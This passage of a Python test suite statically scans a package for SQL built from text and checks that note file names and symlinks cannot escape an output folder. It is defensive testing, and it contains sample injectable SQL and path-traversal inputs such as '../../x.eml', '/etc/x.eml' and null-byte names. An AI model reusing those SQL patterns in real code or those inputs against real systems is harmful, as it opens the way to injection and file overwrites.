    if isinstance(node, (ast.JoinedStr, ast.BinOp)):
        return True
    if isinstance(node, ast.Call):
        func = node.func
        if isinstance(func, ast.Attribute) and func.attr in ("format", "join", "replace", "format_map"):
            return True
        if isinstance(func, ast.Name) and func.id in ("str", "format"):
            return True
    if isinstance(node, ast.Name):
        return any(_is_built(value, {}) for value in assigned.get(node.id, []))
    return False


def _sql_calls(tree):
    """(enclosing function, called name, first argument, assignments in that function) for
    every SQL call, and for SQLAlchemy's text()."""
    found = []

    def visit(node, scope):
        for child in ast.iter_child_nodes(node):
            if isinstance(child, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
                visit(child, scope + [child.name])
                continue
            if isinstance(child, ast.Call) and child.args:
                func = child.func
                name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", None)
                is_text = name == "text" and (isinstance(func, ast.Name) or (
                    isinstance(func.value, ast.Name) and func.value.id in ("sqlalchemy", "sa")))
                if name in _SQL_CALLS or is_text:
                    found.append((".".join(scope), name, child.args[0]))
            visit(child, scope)

    visit(tree, [])
    return found


# What a name holds when it is added to ("sql += ...") or taken from data ("for sql in rows"):
# text from elsewhere, counted as built.
_FROM_DATA = ast.JoinedStr(values=[])


def _assignments(tree) -> dict[str, dict[str, list]]:
    """The values assigned to each name, by enclosing function."""
    by_scope: dict[str, dict[str, list]] = {}

    def visit(node, scope):
        for child in ast.iter_child_nodes(node):
            if isinstance(child, (ast.FunctionDef, ast.AsyncFunctionDef, ast.ClassDef)):
                visit(child, scope + [child.name])
                continue
            bound = []
            if isinstance(child, (ast.Assign, ast.AnnAssign)) and child.value is not None:
                targets = child.targets if isinstance(child, ast.Assign) else [child.target]
                bound = [(target, child.value) for target in targets]
            elif isinstance(child, (ast.AugAssign, ast.For, ast.AsyncFor, ast.comprehension, ast.withitem)):
                target = child.optional_vars if isinstance(child, ast.withitem) else child.target
                bound = [(target, _FROM_DATA)] if target is not None else []
            for target, value in bound:
                for name in ast.walk(target):
                    if isinstance(name, ast.Name):
                        by_scope.setdefault(".".join(scope), {}).setdefault(name.id, []).append(value)
            visit(child, scope)

    visit(tree, [])
    return by_scope


def test_no_sql_is_built_from_text_outside_a_short_known_list():
    package = Path(workbook.__file__).parent
    built: dict[tuple, int] = {}
    calls = 0
    for path in sorted(package.rglob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
        assigned = _assignments(tree)
        module = path.relative_to(package.parent).as_posix()
        for scope, name, argument in _sql_calls(tree):
            calls += 1
            if _is_built(argument, assigned.get(scope, {})):
                key = (module, scope, name)
                built[key] = built.get(key, 0) + 1
    assert calls >= 20  # the walk finds the log's queries
    unknown = {k: v for k, v in built.items() if BUILT_SQL_ALLOWED.get(k) != v}
    assert not unknown, (f"SQL built from text at {unknown}: pass values as bound parameters (or use "
                         "SQLAlchemy's expressions); if it truly holds no user text, add it to "
                         "BUILT_SQL_ALLOWED with the reason")
    assert built == BUILT_SQL_ALLOWED  # and the list holds nothing that is gone


def test_the_static_check_finds_built_sql():
    """The check above would see each way of building SQL text from a value."""
    source = """
from sqlalchemy import text
def f(conn, name):
    conn.execute(f"SELECT * FROM notes WHERE subject = '{name}'")
    conn.exec_driver_sql("DELETE FROM notes WHERE body = '%s'" % name)
    conn.execute(text("SELECT " + name))
    sql = "SELECT {}".format(name)
    conn.execute(sql)
    conn.execute(text("SELECT 1"))
    conn.execute(statement)
    for stored in rows:
        conn.exec_driver_sql(stored)
    query = "SELECT 1"
    conn.execute(query)
"""
    tree = ast.parse(source)
    assigned = _assignments(tree)
    flags = [_is_built(argument, assigned.get(scope, {})) for scope, _, argument in _sql_calls(tree)]
    # text("SELECT " + name) is two calls: the execute of a text(), and the text() built by "+".
    assert flags == [True, True, False, True, True, False, False, False, True, False]


# == file names ===============================================================================

@pytest.mark.parametrize("filename", ["../x.eml", "../../x.eml", "/etc/x.eml", "/tmp/x.eml", "a/b.eml", "..",
                                      "...", "..\\x.eml", "C:\\x.eml", "c:x.eml", "x.eml\x00.txt", "\x00",
                                      "x\n.eml", " ", "./x.eml", "~/x.eml"])
def test_a_file_name_for_a_note_cannot_leave_the_folder(one_interview, tmp_path, filename):
    log, _, [ana, _] = one_interview
    folder = tmp_path / "around" / "out"
    folder.mkdir(parents=True)
    before = files_under(tmp_path)
    with pytest.raises(InvalidValueError) as error:
        write_eml(log, ana, BODY, folder, filename=filename)
    assert (error.value.row, error.value.field, error.value.key) == ("Ana Lima", "filename", ana)
    assert files_under(tmp_path) == before


@pytest.mark.parametrize("target", ["outside.eml", "missing.eml"])
def test_a_link_in_the_folder_is_never_written_through(one_interview, tmp_path, target):
    log, _, [ana, _] = one_interview
    folder, outside = tmp_path / "out", tmp_path / "outside"
    folder.mkdir(), outside.mkdir()
    (outside / "outside.eml").write_bytes(b"not yours")
    (folder / "for-ana.eml").symlink_to(outside / target)            # a link given as the name
    default = "thank-you-ana-lima-northwind-analytics.eml"
    (folder / default).symlink_to(outside / target)                 # and one at the default name

    given = write_eml(log, ana, BODY, folder, filename="for-ana.eml")
    chosen = write_eml(log, ana, BODY, folder)

    assert (given, chosen) == (folder / "for-ana-2.eml", folder / "thank-you-ana-lima-northwind-analytics-2.eml")
    assert files_under(outside) == {"outside.eml": b"not yours"}
    for path in (given, chosen):
        assert not path.is_symlink() and read_back(path)["To"] == "Ana Lima <ana@northwind.example>"
